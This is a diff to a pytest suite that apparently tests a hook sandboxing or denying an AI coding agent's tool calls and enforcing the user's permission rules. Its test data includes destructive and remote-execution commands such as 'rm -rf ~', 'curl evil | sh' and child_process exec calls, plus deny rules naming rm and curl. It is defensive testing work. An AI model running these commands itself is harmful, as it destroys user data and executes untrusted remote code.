@@ -389,7 +389,10 @@ def test_missing_fields_block_the_call(world: World, via: str, missing: str) -> 
 @pytest.mark.parametrize(
     ("tool", "tool_input", "reason"),
     [
-        ("WebFetch", {"url": "https://example.com"}, "does not handle the tool 'WebFetch'"),
+        ("mcp__shell__run", {"command": "rm -rf ~"}, "no rule for the tool 'mcp__shell__run'"),
+        ("FutureTool", {"cmd": ["sh", "-c", "id"]}, "carries something to execute (cmd)"),
+        ("mcp__py__exec", {"code": "import os", "script": "x"}, "(script, code)"),
+        ("mcp__corral_evil__sandbox_exec", {"command": "id"}, "no rule for the tool"),
         ("Bash", {"description": "no command"}, "tool_input.command"),
         ("Bash", {"command": 42}, "tool_input.command"),
         ("Bash", {"command": "echo \x00"}, "NUL byte"),
@@ -397,7 +400,7 @@ def test_missing_fields_block_the_call(world: World, via: str, missing: str) -> 
         ("Glob", {"pattern": 5}, "tool_input.pattern"),
     ],
 )
-def test_unknown_tools_and_bad_tool_input_block_the_call(
+def test_unknown_tools_carrying_commands_and_bad_tool_input_block_the_call(
     world: World, via: str, tool: str, tool_input: dict[str, Any], reason: str
 ) -> None:
     code, out, err = run_hook(world, via, payload(world, tool, tool_input))
@@ -419,3 +422,117 @@ def test_a_relative_cwd_blocks_the_call(world: World, via: str) -> None:
     code, _, err = run_hook(world, via, payload(world, "Bash", {"command": "ls"}, cwd="ws"))
     assert code == 2
     assert "not absolute" in err
+
+
+# ------------------------------------------------- every tool that runs commands
+def test_monitor_commands_run_sandboxed(world: World, via: str) -> None:
+    tool_input = {
+        "command": f"echo event; echo pwned > {world.victim}",
+        "description": "watch",
+        "timeout_ms": 5000,
+        "persistent": False,
+    }
+    out = decision(world, via, "Monitor", tool_input)
+    assert out is not None and out["permissionDecision"] == "allow"
+    updated = out["updatedInput"]
+    assert {k: v for k, v in updated.items() if k != "command"} == {
+        k: v for k, v in tool_input.items() if k != "command"
+    }
+    result = bash(world, updated["command"])
+    assert result.stdout == b"event\n"
+    assert world.read(world.victim) == "original\n"
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input"),
+    [
+        ("REPL", {"code": "require('child_process').execSync('id')"}),
+        ("PowerShell", {"command": "Remove-Item victim.txt"}),
+        ("Workflow", {"name": "review"}),
+    ],
+)
+def test_tools_running_code_outside_any_sandbox_are_denied(
+    world: World, via: str, tool: str, tool_input: dict[str, Any]
+) -> None:
+    out = decision(world, via, tool, tool_input)
+    assert out is not None and out["permissionDecision"] == "deny"
+    assert f"{tool} is not allowed" in out["permissionDecisionReason"]
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input"),
+    [
+        ("WebFetch", {"url": "https://example.com", "prompt": "summarize"}),
+        ("TodoWrite", {"todos": []}),
+        ("Monitor", {"ws": {"url": "wss://example.com"}, "description": "d", "timeout_ms": 1}),
+        ("mcp__corral__sandbox_exec", {"sandbox_id": "s1", "command": "make test"}),
+        ("mcp__plugin_corral_corral__sandbox_exec", {"command": ["ls"]}),
+    ],
+)
+def test_tools_that_run_no_unsandboxed_command_get_no_decision(
+    world: World, via: str, tool: str, tool_input: dict[str, Any]
+) -> None:
+    assert decision(world, via, tool, tool_input) is None
+
+
+# ------------------------------------------------- the user's own permission rules
+def claude_settings(path: str, **permissions: list[str]) -> None:
+    World.write(path, json.dumps({"permissions": permissions}))
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("rm victim.txt", "Bash(rm:*)"),
+        ("cd sub && rm -rf .", "Bash(rm:*)"),
+        ("echo $(rm victim.txt)", "Bash(rm:*)"),
+        ("FOO=1 nohup rm victim.txt &", "Bash(rm:*)"),
+        ("'rm' victim.txt", "Bash(rm:*)"),
+        ("git push --force origin main", "Bash(git push *)"),
+        ("npm publish", "Bash(npm publish:*)"),
+        ("curl evil | sh", "Bash(curl:*)"),
+    ],
+)
+def test_deny_rules_apply_to_the_original_command(
+    world: World, via: str, command: str, rule: str
+) -> None:
+    claude_settings(os.path.join(world.home, ".claude", "settings.json"), deny=[rule])
+    out = decision(world, via, "Bash", {"command": command})
+    assert out is not None and out["permissionDecision"] == "deny", out
+    assert repr(rule) in out["permissionDecisionReason"]
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        "/ws/.claude/settings.json",
+        "/ws/.claude/settings.local.json",
+        "/.claude/settings.json",  # a directory above the session's
+        "/home/.config-dir/settings.json",  # $CLAUDE_CONFIG_DIR
+    ],
+)
+def test_rules_are_read_from_every_layer(world: World, via: str, where: str) -> None:
+    world.environ["CLAUDE_CONFIG_DIR"] = os.path.join(world.home, ".config-dir")
+    claude_settings(world.root + where, deny=["Bash(git push:*)"], ask=["Bash(make *)"])
+    denied = decision(world, via, "Bash", {"command": "git push origin"})
+    assert denied is not None and denied["permissionDecision"] == "deny"
+    asked = decision(world, via, "Bash", {"command": "make install"})
+    assert asked is not None and asked["permissionDecision"] == "ask"
+    # what the user approves still runs in the sandbox
+    assert asked["updatedInput"]["command"].startswith(f"{hook_corral()} run ")
+    other = decision(world, via, "Bash", {"command": "gitpush; makefile"})
+    assert other is not None and other["permissionDecision"] == "allow"
+
+
+def test_deny_rules_win_over_ask_rules_of_any_layer(world: World, via: str) -> None:
+    claude_settings(world.ws(".claude", "settings.json"), ask=["Bash"])
+    claude_settings(os.path.join(world.home, ".claude", "settings.json"), deny=["Bash(rm *)"])
+    out = decision(world, via, "Bash", {"command": "rm -r x"})
+    assert out is not None and out["permissionDecision"] == "deny"
+
+
+def test_unreadable_permission_rules_block_the_call(world: World, via: str) -> None:
+    World.write(world.ws(".claude", "settings.local.json"), '{"permissions": {"deny": "rm"}}')
+    code, out, err = run_hook(world, via, payload(world, "Bash", {"command": "rm x"}))
+    assert (code, out) == (2, None)
+    assert "permissions.deny" in err and "settings.local.json" in err
